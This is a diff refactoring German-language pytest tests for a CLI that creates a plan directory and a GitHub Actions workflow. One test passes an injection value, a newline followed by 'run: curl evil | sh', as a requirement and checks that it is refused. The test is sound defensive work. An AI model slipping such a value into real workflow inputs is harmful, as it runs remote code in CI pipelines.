@@ -4,21 +4,15 @@ job; refused with nothing left behind where it cannot be made."""
 from __future__ import annotations
 
 import shutil
+from functools import partial
 from pathlib import Path
 
 import pytest
 import yaml
 
-from conftest import SHIPPED, invoke
+from helpers import SHIPPED, mpi
 
-TODAY = {"MPI_TODAY": "2026-12-07"}
-
-
-def init(*args: str, code: int = 0) -> str:
-    result = invoke(["init", *args, "--lang", "de"], env=TODAY)
-    assert result.exit_code == code, result.output
-    assert "Traceback" not in result.output
-    return result.stdout + result.stderr
+init = partial(mpi, "init", lang="de")  # `mpi init ARGS` in German
 
 
 @pytest.mark.parametrize(
@@ -28,13 +22,12 @@ def test_the_new_plan_validates_whatever_its_title(tmp_path: Path, title: str) -
     init(str(tmp_path / "neu"), "--title", title, "--field", "Flächen: und mehr")
     plan = tmp_path / "neu" / "plan"
     assert yaml.safe_load((plan / "plan.yaml").read_text(encoding="utf-8"))["title"] == title
-    result = invoke(["validate", "--plan", str(plan), "--lang", "de"], env=TODAY)
-    assert result.exit_code == 0, result.output
+    result = mpi("validate", plan=plan, lang="de")
     assert "Entwurf" in result.stdout
 
 
 def test_the_workflow_checks_out_the_history_and_never_guesses_a_package(tmp_path: Path) -> None:
-    said = init(str(tmp_path / "neu"))
+    said = init(str(tmp_path / "neu")).output
     workflow = (tmp_path / "neu" / ".github" / "workflows" / "plan.yml").read_text("utf-8")
     data = yaml.safe_load(workflow)
     steps = data["jobs"]["validate"]["steps"]
@@ -51,7 +44,9 @@ def test_a_requirement_is_written_as_one_value(tmp_path: Path) -> None:
     init(str(tmp_path / "neu"), "--requirement", wanted)
     data = yaml.safe_load((tmp_path / "neu" / ".github/workflows/plan.yml").read_text("utf-8"))
     assert data["jobs"]["validate"]["steps"][2]["env"]["MPI_REQUIREMENT"] == wanted
-    said = init(str(tmp_path / "zwei"), "--requirement", "mpi\n      - run: curl evil | sh", code=2)
+    said = init(
+        str(tmp_path / "zwei"), "--requirement", "mpi\n      - run: curl evil | sh", code=2
+    ).output
     assert "--requirement" in said and not (tmp_path / "zwei").exists()
 
 
@@ -61,7 +56,7 @@ def test_a_requirement_is_written_as_one_value(tmp_path: Path) -> None:
     ids=["blank", "field", "title"],
 )
 def test_a_refused_init_leaves_nothing(tmp_path: Path, args: list[str]) -> None:
-    said = init(str(tmp_path / "neu"), *args, code=2)
+    said = init(str(tmp_path / "neu"), *args, code=2).output
     assert ("--field" if "--field" in args else "--title") in said
     assert not (tmp_path / "neu").exists()
 
@@ -69,7 +64,7 @@ def test_a_refused_init_leaves_nothing(tmp_path: Path, args: list[str]) -> None:
 def test_init_into_a_directory_with_files_is_refused(tmp_path: Path) -> None:
     (tmp_path / "voll").mkdir()
     (tmp_path / "voll" / "notiz.txt").write_text("x", encoding="utf-8")
-    assert "nicht leer" in init(str(tmp_path / "voll"), code=2)
+    assert "nicht leer" in init(str(tmp_path / "voll"), code=2).output
     assert sorted(p.name for p in (tmp_path / "voll").iterdir()) == ["notiz.txt"]
 
 
@@ -91,6 +86,5 @@ def test_a_copy_is_a_draft_that_validates(tmp_path: Path, declared: str) -> None
     init(str(tmp_path / "neu"), "--from", str(source))
     plan = tmp_path / "neu" / "plan"
     assert not (plan / "adopted.yaml").exists()
-    result = invoke(["validate", "--plan", str(plan), "--lang", "de"], env=TODAY)
-    assert result.exit_code == 0, result.output
+    result = mpi("validate", plan=plan, lang="de")
     assert "Entwurf" in result.stdout
